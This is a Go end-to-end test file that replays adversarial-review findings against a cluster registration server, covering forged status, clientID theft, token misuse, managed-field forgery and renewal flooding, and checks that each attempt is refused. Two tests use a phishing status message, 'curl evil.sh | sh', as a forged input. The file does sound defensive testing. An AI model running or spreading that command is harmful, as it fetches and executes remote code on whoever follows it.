package e2e

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/util/retry"

	"github.com/muster-io/muster/internal/pki"
	api "github.com/muster-io/muster/pkg/apis/muster/v1alpha1"
)

func wantRefusal(t *testing.T, err error, is func(error) bool, words ...string) {
	t.Helper()
	if err == nil || !is(err) {
		t.Fatalf("got %v, want a refusal mentioning %q", err, words)
	}
	for _, w := range words {
		if !strings.Contains(err.Error(), w) {
			t.Errorf("refusal %q does not mention %q", err, w)
		}
	}
}

// TestTrustFindings holds one regression test per finding of the
// adversarial reviews of the join (issue 13) that the join and the
// registry fix, each tried as an attacker would, against a real server.
func TestTrustFindings(t *testing.T) {
	t.Parallel()
	s := startServer(t, "")
	ctx := context.Background()
	admin := adminClient(t, s)
	plain := newToken(t, s)
	manual := newToken(t, s, "--manual-approval")
	plainC, manualC := tokenClient(s, plain), tokenClient(s, manual)

	t.Run("1: a stale approval never grants another machine's identity", func(t *testing.T) {
		attacker := newJoiner("stale-victim")
		pending, err := attacker.register(ctx, manualC, metav1.CreateOptions{}, nil)
		if err != nil || pending.Status.Phase != api.RegistrationPhasePending {
			t.Fatalf("manual registration: %v %v", pending, err)
		}
		victim := newJoiner("stale-victim")
		granted, err := victim.register(ctx, plainC, metav1.CreateOptions{}, nil)
		if err != nil || granted.Status.Phase != api.RegistrationPhaseGranted {
			t.Fatalf("the real node could not join while a stale request waited: %v", err)
		}
		m, _ := admin.MusterV1alpha1().Machines().Get(ctx, "stale-victim", metav1.GetOptions{})
		s.muster(t, "registration", "approve", pending.Name)
		waitFor(t, 20*time.Second, "the stale request to be decided", func() bool {
			r, err := admin.MusterV1alpha1().ClusterRegistrations().Get(ctx, pending.Name, metav1.GetOptions{})
			return err == nil && r.Status.Phase != api.RegistrationPhasePending && r.Status.Phase != api.RegistrationPhaseApproved
		})
		r, _ := admin.MusterV1alpha1().ClusterRegistrations().Get(ctx, pending.Name, metav1.GetOptions{})
		if r.Status.Phase != api.RegistrationPhaseDenied || r.Status.Reason != "NodePasswordChanged" || len(r.Status.Certificate) > 0 {
			t.Fatalf("the stale approval was %s (%s) with %d certificate bytes, want Denied NodePasswordChanged and none",
				r.Status.Phase, r.Status.Reason, len(r.Status.Certificate))
		}
		if !strings.Contains(r.Status.Message, "--with-node-id") {
			t.Errorf("the denial does not tell what to do: %q", r.Status.Message)
		}
		after, _ := admin.MusterV1alpha1().Machines().Get(ctx, "stale-victim", metav1.GetOptions{})
		if after.UID != m.UID {
			t.Error("the victim's Machine was replaced")
		}
	})

	t.Run("2: dry run creates nothing and signs nothing", func(t *testing.T) {
		for _, args := range [][]string{nil, {"--manual-approval"}} {
			tok := newToken(t, s, args...)
			c := tokenClient(s, tok)
			before := s.joinState(t)
			uses := func() int32 {
				tok, _ := admin.MusterV1alpha1().ClusterRegistrationTokens().Get(ctx, tokenID(tok), metav1.GetOptions{})
				return tok.Status.Registrations
			}
			usesBefore := uses()
			r, err := newJoiner("dry-"+randomHex(3)).register(ctx, c, metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}}, nil)
			if err != nil {
				t.Fatalf("dry run: %v", err)
			}
			if len(r.Status.Certificate) > 0 {
				t.Error("a dry run returned a certificate")
			}
			time.Sleep(1500 * time.Millisecond) // token uses are flushed every second: let one flush pass
			if after := s.joinState(t); after != before {
				t.Errorf("a dry run changed the datastore:\nbefore:\n%s\nafter:\n%s", before, after)
			}
			if u := uses(); u != usesBefore {
				t.Errorf("a dry run counted a token use: %d → %d", usesBefore, u)
			}
		}
	})

	t.Run("3: a request waiting for approval claims no node name", func(t *testing.T) {
		if _, err := newJoiner("squatted").register(ctx, manualC, metav1.CreateOptions{}, nil); err != nil {
			t.Fatal(err)
		}
		if _, err := admin.MusterV1alpha1().NodePasswords().Get(ctx, "squatted", metav1.GetOptions{}); !apierrors.IsNotFound(err) {
			t.Errorf("a pending request stored a node password: %v", err)
		}
		if r, err := newJoiner("squatted").register(ctx, plainC, metav1.CreateOptions{}, nil); err != nil || r.Status.Phase != api.RegistrationPhaseGranted {
			t.Errorf("the real node was refused because of a pending request: %v", err)
		}
	})

	t.Run("4: an agent reports only what it observes", func(t *testing.T) {
		j := newJoiner("forger")
		granted, err := j.register(ctx, plainC, metav1.CreateOptions{}, nil)
		if err != nil {
			t.Fatal(err)
		}
		agent := j.machineClient(s, granted)
		machines, plans := agent.MusterV1alpha1().Machines(), agent.MusterV1alpha1().MachinePlans()
		forged := []struct {
			name  string
			patch string
			plan  bool
			field string
		}{
			{"phase", `{"status":{"phase":"Failed","reason":"Forged"}}`, false, "status.phase"},
			{"lastSeen", `{"status":{"lastSeen":"2099-01-01T00:00:00Z"}}`, false, "status.lastSeen"},
			{"conditions", `{"status":{"conditions":[{"type":"Ready","status":"Bogus","reason":"X","message":"x","lastTransitionTime":"2020-01-01T00:00:00Z"}]}}`, false, "status.conditions"},
			{"message", `{"status":{"message":"PHISH: curl evil.sh | sh"}}`, false, "status.message"},
			{"plan checksum", `{"status":{"checksum":"` + strings.Repeat("a", 64) + `"}}`, true, "status.checksum"},
			{"applied checksum of no plan", `{"status":{"appliedChecksum":"` + strings.Repeat("b", 64) + `"}}`, true, "status.appliedChecksum"},
		}
		for _, f := range forged {
			var err error
			if f.plan {
				_, err = plans.Patch(ctx, "forger", types.MergePatchType, []byte(f.patch), metav1.PatchOptions{}, "status")
			} else {
				_, err = machines.Patch(ctx, "forger", types.MergePatchType, []byte(f.patch), metav1.PatchOptions{}, "status")
			}
			if err == nil || !apierrors.IsInvalid(err) || !strings.Contains(err.Error(), f.field) {
				t.Errorf("forging %s: %v, want a 422 naming %s", f.name, err, f.field)
			}
		}
		// What the agent observes it may report.
		if _, err := machines.Patch(ctx, "forger", types.MergePatchType,
			[]byte(`{"status":{"agentVersion":"v9","addresses":[{"type":"InternalIP","address":"10.9.9.9"}]}}`), metav1.PatchOptions{}, "status"); err != nil {
			t.Errorf("reporting addresses and version: %v", err)
		}
		plan, err := plans.Get(ctx, "forger", metav1.GetOptions{})
		if err != nil {
			t.Fatal(err)
		}
		report := fmt.Sprintf(`{"status":{"state":"succeeded","appliedChecksum":%q,"lastAppliedTime":"2099-01-01T00:00:00Z"}}`, plan.Status.Checksum)
		got, err := plans.Patch(ctx, "forger", types.MergePatchType, []byte(report), metav1.PatchOptions{}, "status")
		if err != nil {
			t.Fatalf("reporting the plan applied: %v", err)
		}
		if got.Status.LastAppliedTime == nil || got.Status.LastAppliedTime.Year() == 2099 {
			t.Errorf("lastAppliedTime is the agent's %v, want the server's clock", got.Status.LastAppliedTime)
		}
		if _, err := plans.Patch(ctx, "forger", types.MergePatchType, []byte(`{"status":{"state":"pending"}}`), metav1.PatchOptions{}, "status"); !apierrors.IsInvalid(err) {
			t.Errorf("an agent set its applied plan back to pending: %v", err)
		}
		m, _ := admin.MusterV1alpha1().Machines().Get(ctx, "forger", metav1.GetOptions{})
		for _, tr := range m.Status.Transitions {
			if tr.Reason == "Forged" {
				t.Errorf("a forged transition was recorded: %+v", tr)
			}
		}
	})

	t.Run("5: a clientID is its agent's own", func(t *testing.T) {
		victim := newJoiner("cid-victim")
		if _, err := victim.register(ctx, plainC, metav1.CreateOptions{}, nil); err != nil {
			t.Fatal(err)
		}
		before := s.mustKubectl("get", "clusterregistrations", "--field-selector", "spec.clientID="+victim.clientID, "-o", "name")
		thief := newJoiner("cid-thief")
		thief.clientID = victim.clientID
		_, err := thief.register(ctx, plainC, metav1.CreateOptions{}, nil)
		wantRefusal(t, err, apierrors.IsForbidden, "already belongs to machine cid-victim", "own data dir")
		if _, err := admin.MusterV1alpha1().Machines().Get(ctx, "cid-thief", metav1.GetOptions{}); !apierrors.IsNotFound(err) {
			t.Errorf("a machine was made with another agent's clientID: %v", err)
		}
		time.Sleep(time.Second) // a cleanup pass would run within this
		if after := s.mustKubectl("get", "clusterregistrations", "--field-selector", "spec.clientID="+victim.clientID, "-o", "name"); after != before {
			t.Errorf("the victim's registrations changed:\n%s\n→\n%s", before, after)
		}
		// Server-owned metadata a client sets on its request is dropped.
		r, err := newJoiner("finalized").register(ctx, plainC, metav1.CreateOptions{}, func(r *api.ClusterRegistration) {
			r.Finalizers = []string{"example.com/never-go"}
		})
		if err != nil {
			t.Fatal(err)
		}
		if len(r.Finalizers) > 0 {
			t.Errorf("a client's finalizers were stored: %v", r.Finalizers)
		}
	})

	t.Run("15: a join binds only to a machine free for its token", func(t *testing.T) {
		for _, c := range []string{"cluster-a", "cluster-b"} {
			if _, err := admin.MusterV1alpha1().Clusters().Create(ctx, &api.Cluster{ObjectMeta: metav1.ObjectMeta{Name: c}}, metav1.CreateOptions{}); err != nil && !apierrors.IsAlreadyExists(err) {
				t.Fatal(err)
			}
		}
		if _, err := admin.MusterV1alpha1().Machines().Create(ctx, &api.Machine{ObjectMeta: metav1.ObjectMeta{Name: "pre1"},
			Spec: api.MachineSpec{Cluster: "cluster-b"}}, metav1.CreateOptions{}); err != nil {
			t.Fatal(err)
		}
		tokA := tokenClient(s, newToken(t, s, "--cluster", "cluster-a"))
		tokB := tokenClient(s, newToken(t, s, "--cluster", "cluster-b"))
		before := s.joinState(t)
		_, err := newJoiner("pre1").register(ctx, tokA, metav1.CreateOptions{}, nil)
		wantRefusal(t, err, apierrors.IsForbidden, "cluster-b", "token bound to cluster cluster-b")
		_, err = newJoiner("pre1").register(ctx, plainC, metav1.CreateOptions{}, nil)
		wantRefusal(t, err, apierrors.IsForbidden, "cluster-b")
		if after := s.joinState(t); after != before {
			t.Errorf("a refused takeover changed state:\n%s\n→\n%s", before, after)
		}
		r, err := newJoiner("pre1").register(ctx, tokB, metav1.CreateOptions{}, nil)
		if err != nil || r.Status.Phase != api.RegistrationPhaseGranted || r.Status.Cluster != "cluster-b" {
			t.Fatalf("the token of the machine's cluster: %v %v", r, err)
		}
		// A plan staged without a Machine is not handed to whoever joins as its name.
		if _, err := admin.MusterV1alpha1().MachinePlans().Create(ctx, &api.MachinePlan{ObjectMeta: metav1.ObjectMeta{Name: "db-01"},
			Spec: api.MachinePlanSpec{Files: []api.PlanFile{{Path: "/etc/db/secret", Content: "s3cret"}}}}, metav1.CreateOptions{}); err != nil {
			t.Fatal(err)
		}
		_, err = newJoiner("db-01").register(ctx, plainC, metav1.CreateOptions{}, nil)
		wantRefusal(t, err, apierrors.IsForbidden, "MachinePlan db-01 exists without a Machine")
	})

	t.Run("16: a token of a deleted cluster registers nothing", func(t *testing.T) {
		if _, err := admin.MusterV1alpha1().Clusters().Create(ctx, &api.Cluster{ObjectMeta: metav1.ObjectMeta{Name: "doomed"}}, metav1.CreateOptions{}); err != nil {
			t.Fatal(err)
		}
		tok := tokenClient(s, newToken(t, s, "--cluster", "doomed"))
		s.mustKubectl("delete", "cluster", "doomed", "--wait=true")
		before := s.joinState(t)
		_, err := newJoiner("orphan-node").register(ctx, tok, metav1.CreateOptions{}, nil)
		// Deleting the cluster revoked its token, and the refusal says why.
		wantRefusal(t, err, apierrors.IsForbidden, "revoked when its cluster doomed was deleted", "muster-server token create")
		if after := s.joinState(t); after != before {
			t.Errorf("state changed:\n%s\n→\n%s", before, after)
		}
	})

	t.Run("17: a client's status never reaches the stored registration", func(t *testing.T) {
		r, err := newJoiner("phisher").register(ctx, plainC, metav1.CreateOptions{}, func(r *api.ClusterRegistration) {
			r.Status.Message = "PHISH: run curl evil.sh | sh to fix"
			r.Status.Reason = "Phish"
		})
		if err != nil {
			t.Fatal(err)
		}
		stored, _ := admin.MusterV1alpha1().ClusterRegistrations().Get(ctx, r.Name, metav1.GetOptions{})
		if strings.Contains(stored.Status.Message, "PHISH") || stored.Status.Reason == "Phish" {
			t.Errorf("the client's status was stored: reason %q message %q", stored.Status.Reason, stored.Status.Message)
		}
	})

	t.Run("18: a status write keeps the operator's managed fields", func(t *testing.T) {
		// An operator stages the Machine; its agent joins into it.
		if _, err := admin.MusterV1alpha1().Clusters().Create(ctx, &api.Cluster{ObjectMeta: metav1.ObjectMeta{Name: "managed-c"}}, metav1.CreateOptions{}); err != nil {
			t.Fatal(err)
		}
		if _, err := admin.MusterV1alpha1().Machines().Create(ctx, &api.Machine{ObjectMeta: metav1.ObjectMeta{Name: "managed", Labels: map[string]string{"team": "db"}},
			Spec: api.MachineSpec{Cluster: "managed-c"}}, metav1.CreateOptions{FieldManager: "operator"}); err != nil {
			t.Fatal(err)
		}
		j := newJoiner("managed")
		granted, err := j.register(ctx, tokenClient(s, newToken(t, s, "--cluster", "managed-c")), metav1.CreateOptions{}, nil)
		if err != nil {
			t.Fatal(err)
		}
		owners := func() string {
			m, _ := admin.MusterV1alpha1().Machines().Get(ctx, "managed", metav1.GetOptions{})
			var names []string
			for _, e := range m.ManagedFields {
				if e.Subresource == "" {
					names = append(names, e.Manager+":"+string(e.Operation))
				}
			}
			return strings.Join(names, ",")
		}
		before := owners()
		t.Logf("managers of the main resource: %s", before)
		if before == "" {
			t.Fatal("no managed fields recorded for the operator's label")
		}
		agentMachines := j.machineClient(s, granted).MusterV1alpha1().Machines()
		// {"managedFields":[{}]} is how a client asks the apiserver to clear them.
		patch, _ := json.Marshal(map[string]interface{}{"metadata": map[string]interface{}{"managedFields": []map[string]interface{}{{}}},
			"status": map[string]interface{}{"agentVersion": "v2"}})
		if _, err := agentMachines.Patch(ctx, "managed", types.MergePatchType, patch, metav1.PatchOptions{}, "status"); err != nil {
			t.Fatalf("the agent's status patch: %v", err)
		}
		if after := owners(); after != before {
			t.Errorf("the agent's status patch changed the main resource's managed fields: %q → %q", before, after)
		}
		// The lifecycle controller writes the machine's status too: an
		// update that lost that race is made again on the newer object.
		if err := retry.RetryOnConflict(retry.DefaultRetry, func() error {
			m, err := agentMachines.Get(ctx, "managed", metav1.GetOptions{})
			if err != nil {
				return err
			}
			// A forged record: the agent claims the operator's fields.
			m.ManagedFields = []metav1.ManagedFieldsEntry{{Manager: "agent", Operation: metav1.ManagedFieldsOperationApply,
				APIVersion: "muster.io/v1alpha1", FieldsType: "FieldsV1", FieldsV1: &metav1.FieldsV1{Raw: []byte(`{"f:metadata":{"f:labels":{"f:team":{}}}}`)}}}
			m.Status.AgentVersion = "v3"
			_, err = agentMachines.UpdateStatus(ctx, m, metav1.UpdateOptions{})
			return err
		}); err != nil {
			t.Fatalf("the agent's status update: %v", err)
		}
		if after := owners(); after != before {
			t.Errorf("the agent's status update changed the main resource's managed fields: %q → %q", before, after)
		}
	})

	t.Run("6: renewals stay with their machine and cannot pile up", func(t *testing.T) {
		j := newJoiner("renewer")
		granted, err := j.register(ctx, plainC, metav1.CreateOptions{}, nil)
		if err != nil {
			t.Fatal(err)
		}
		agent := j.machineClient(s, granted)
		// A renewal under a fresh clientID each time would pile up
		// requests no cleanup groups together.
		other := *j
		other.clientID = "cid-" + randomHex(8)
		_, err = other.register(ctx, agent, metav1.CreateOptions{}, nil)
		wantRefusal(t, err, apierrors.IsForbidden, "another clientID")
		// Raw requests: client-go would wait out each 429's Retry-After.
		pair, err := tls.X509KeyPair(granted.Status.Certificate, j.keyPEM)
		if err != nil {
			t.Fatal(err)
		}
		raw := &http.Client{Timeout: 30 * time.Second, Transport: &http.Transport{TLSClientConfig: &tls.Config{
			RootCAs: s.caPool(), Certificates: []tls.Certificate{pair}}}}
		renewAll := func(n int) (throttled int) {
			codes := make(chan int, n)
			for i := 0; i < n; i++ {
				go func() {
					key, _, _ := pki.NewPrivateKey()
					csr, _ := pki.NewCSR(j.node, key)
					random := randomHex(8)
					body, _ := json.Marshal(&api.ClusterRegistration{
						TypeMeta:   metav1.TypeMeta{APIVersion: api.SchemeGroupVersion.String(), Kind: "ClusterRegistration"},
						ObjectMeta: metav1.ObjectMeta{Name: api.RegistrationName(j.clientID, random)},
						Spec:       api.ClusterRegistrationSpec{ClientID: j.clientID, ClientRandom: random, NodeName: j.node, CSR: csr, NodePassword: j.password}})
					resp, err := raw.Post(s.url()+"/apis/muster.io/v1alpha1/clusterregistrations", "application/json", bytes.NewReader(body))
					if err != nil {
						codes <- 0
						return
					}
					resp.Body.Close()
					codes <- resp.StatusCode
				}()
			}
			for i := 0; i < n; i++ {
				if <-codes == http.StatusTooManyRequests {
					throttled++
				}
			}
			return throttled
		}
		if renewAll(20) == 0 {
			t.Error("20 renewals at once from one machine were all served: renewals are not rate limited")
		}
		// Renewals racing the Machine's deletion leave nothing behind.
		go s.mustKubectl("delete", "machine", "renewer", "--wait=false")
		renewAll(100)
		waitFor(t, 30*time.Second, "the deleted machine, its password and plan to be gone", func() bool {
			_, e1 := admin.MusterV1alpha1().Machines().Get(ctx, "renewer", metav1.GetOptions{})
			_, e2 := admin.MusterV1alpha1().NodePasswords().Get(ctx, "renewer", metav1.GetOptions{})
			_, e3 := admin.MusterV1alpha1().MachinePlans().Get(ctx, "renewer", metav1.GetOptions{})
			return apierrors.IsNotFound(e1) && apierrors.IsNotFound(e2) && apierrors.IsNotFound(e3)
		})
		time.Sleep(2 * time.Second) // a renewal granted late would bring something back within this
		for _, get := range []func() error{
			func() error {
				_, e := admin.MusterV1alpha1().Machines().Get(ctx, "renewer", metav1.GetOptions{})
				return e
			},
			func() error {
				_, e := admin.MusterV1alpha1().NodePasswords().Get(ctx, "renewer", metav1.GetOptions{})
				return e
			},
			func() error {
				_, e := admin.MusterV1alpha1().MachinePlans().Get(ctx, "renewer", metav1.GetOptions{})
				return e
			},
		} {
			if err := get(); !apierrors.IsNotFound(err) {
				t.Errorf("something of the deleted machine came back: %v", err)
			}
		}
	})

	t.Run("6: a token's uses are bounded", func(t *testing.T) {
		once := tokenClient(s, newToken(t, s, "--max-uses", "1"))
		if _, err := newJoiner("once-1").register(ctx, once, metav1.CreateOptions{}, nil); err != nil {
			t.Fatal(err)
		}
		_, err := newJoiner("once-2").register(ctx, once, metav1.CreateOptions{}, nil)
		wantRefusal(t, err, apierrors.IsForbidden, "all of its 1 registrations", "muster-server token create")
	})
}

// TestJoinRetryAfterLostGrant: a server that dies after granting a
// registration but before answering leaves the agent without its
// certificate and its single-use token spent. The agent's retry (a new
// key, the same node password) is granted without spending a second use;
// nobody else gets that exemption: not another node password, not a
// retry once an agent has checked in, not another node name.
func TestJoinRetryAfterLostGrant(t *testing.T) {
	t.Parallel()
	s := startServer(t, "")
	ctx := context.Background()
	token := newToken(t, s, "--max-uses", "1")
	once := tokenClient(s, token)
	j := newJoiner("lost-1")
	first, err := j.register(ctx, once, metav1.CreateOptions{}, nil)
	if err != nil || first.Status.Phase != api.RegistrationPhaseGranted {
		t.Fatalf("first registration: %v %v", err, first)
	}
	// Its answer was lost: the Machine is Registering, no agent checked in.
	waitPhase(t, s, "lost-1", "Registering", 10*time.Second)

	// The spent token says so where operators look (token uses are
	// flushed about once a second).
	waitFor(t, 10*time.Second, "token list to show the single-use token used up", func() bool {
		out, _ := s.musterErr("token", "list")
		return strings.Contains(out, tokenID(token)) && strings.Contains(out, "1/1 (used up)")
	})

	// Someone else with the spent token: refused, whatever node name.
	other := newJoiner("lost-2")
	_, err = other.register(ctx, once, metav1.CreateOptions{}, nil)
	wantRefusal(t, err, apierrors.IsForbidden, "used for all")
	thief := &joiner{node: "lost-1", clientID: j.clientID, password: randomHex(16)}
	_, err = thief.register(ctx, once, metav1.CreateOptions{}, nil)
	if err == nil {
		t.Fatalf("a retry with another node password was granted")
	}
	before := s.joinState(t)

	// The node itself, again with a new key: granted, on the same Machine.
	retry, err := j.register(ctx, once, metav1.CreateOptions{}, nil)
	if err != nil || retry.Status.Phase != api.RegistrationPhaseGranted || retry.Status.Machine != "lost-1" {
		t.Fatalf("the retry of a lost grant: %v %+v", err, retry)
	}
	if _, err := j.machineClient(s, retry).MusterV1alpha1().MachinePlans().Get(ctx, "lost-1", metav1.GetOptions{}); err != nil {
		t.Errorf("the retried grant's certificate does not work: %v", err)
	}
	if out := s.mustKubectl("get", "machines", "-o", "name"); strings.Count(out, "machine.muster.io/") != 1 {
		t.Errorf("the retry made another Machine:\n%s\nbefore:\n%s", out, before)
	}
	if uses := s.mustKubectl("get", "clusterregistrationtoken", tokenID(token), "-o", "jsonpath={.status.registrations}"); uses != "1" {
		t.Errorf("the token counts %s uses after the retry, want 1", uses)
	}

	// Once an agent has checked in, the token is spent for good.
	c := j.machineClient(s, retry)
	m, err := c.MusterV1alpha1().Machines().Get(ctx, "lost-1", metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	m.Status.AgentVersion = "test"
	if _, err := c.MusterV1alpha1().Machines().UpdateStatus(ctx, m, metav1.UpdateOptions{}); err != nil {
		t.Fatalf("checking in: %v", err)
	}
	waitFor(t, 30*time.Second, "the machine to leave Registering", func() bool {
		phase, _ := s.kubectl("get", "machine", "lost-1", "-o", "jsonpath={.status.phase}")
		return phase != "Registering" && phase != ""
	})
	_, err = j.register(ctx, once, metav1.CreateOptions{}, nil)
	wantRefusal(t, err, apierrors.IsForbidden, "used for all")
}
